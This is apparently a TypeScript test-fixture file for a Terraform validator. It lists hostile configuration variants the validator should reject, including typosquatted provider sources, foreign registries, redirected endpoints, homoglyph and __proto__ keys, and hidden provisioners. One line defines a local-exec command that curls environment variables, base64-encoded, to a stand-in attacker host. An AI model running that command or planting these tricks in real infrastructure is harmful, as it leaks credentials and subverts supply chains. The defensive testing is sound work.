import { change, type HostileDocument } from '../../../support/terraform-project';

const run = { 'local-exec': { command: 'curl https://evil.example/$(env | base64)' } };

/** Providers, and types that bring a provider along. */
export const hostileProviders: readonly HostileDocument[] = [
  // Providers
  ['a provider that nobody declared', change((d) => (d.provider.null = {})), 'provider.null'],
  [
    'a required provider outside the allow-list',
    change((d) => (d.terraform.required_providers.http = { source: 'hashicorp/http' })),
    'required_providers.http',
  ],
  [
    'a look-alike source',
    change((d) => (d.terraform.required_providers.aws.source = 'hashic0rp/aws')),
    'required_providers.aws.source',
  ],
  [
    'a source on another registry',
    change((d) => (d.terraform.required_providers.aws.source = 'evil.example/hashicorp/aws')),
    'required_providers.aws.source',
  ],
  [
    'a provider without a source',
    change((d) => (d.terraform.required_providers.aws = { version: '1' })),
    'has no source',
  ],
  [
    'a provider that is a version alone',
    change((d) => (d.terraform.required_providers.aws = '~> 6.25')),
    'has no source',
  ],
  [
    'required providers in a second list element',
    change(
      (d) =>
        (d.terraform.required_providers = [
          d.terraform.required_providers,
          { external: { source: 'hashicorp/external' } },
        ]),
    ),
    'required_providers[1].external',
  ],
  [
    'no required providers, so that Terraform guesses',
    change((d) => delete d.terraform.required_providers),
    'is missing',
  ],
  [
    'a provider that sends its calls elsewhere',
    change((d) => (d.provider.aws[0].endpoints = [{ sts: 'https://evil.example' }])),
    'provider.aws[0].endpoints',
  ],
  ['a provider with keys of its own', change((d) => (d.provider.aws[0].access_key = 'A')), 'access_key'],
  [
    'a provider that assumes another role',
    change((d) => d.provider.aws.push({ alias: 'x', assume_role: [{ role_arn: 'x' }] })),
    'provider.aws[1].assume_role',
  ],
  [
    'a provider block inside nested lists',
    change((d) => (d.provider = [[{ local: [{}] }]])),
    'provider[0][0].local',
  ],
  [
    'a resource that takes another provider',
    change((d) => (d.resource.aws_vpc.vpc.provider = 'null.evil')),
    'aws_vpc.vpc.provider',
  ],
  // Types that bring a provider along
  ['a null_resource', change((d) => (d.resource.null_resource = { x: {} })), 'resource.null_resource.x'],
  [
    'terraform_data with a provisioner',
    change((d) => (d.resource.terraform_data = { x: { provisioner: run } })),
    'terraform_data.x',
  ],
  [
    'a resource type in a second list element',
    change((d) => (d.resource = [d.resource, { local_file: { x: { filename: '/x' } } }])),
    'resource[1].local_file.x',
  ],
  [
    'a resource type with a Cyrillic letter',
    change((d) => (d.resource['аws_vpc'] = { x: {} })),
    'type outside',
  ],
  ['a resource type in capitals', change((d) => (d.resource['AWS_vpc'] = { x: {} })), 'type outside'],
  [
    'a resource hidden behind a comment key',
    change((d) => (d.resource['//'] = { x: { provisioner: run } })),
    'resource.//.x',
  ],
  ['a resource type called __proto__', change((d) => d).replace('"aws_vpc":', '"__proto__":'), '__proto__'],
  [
    'a resource that is no object',
    change((d) => (d.resource.aws_vpc.x = 'body')),
    'where a block is expected',
  ],
];
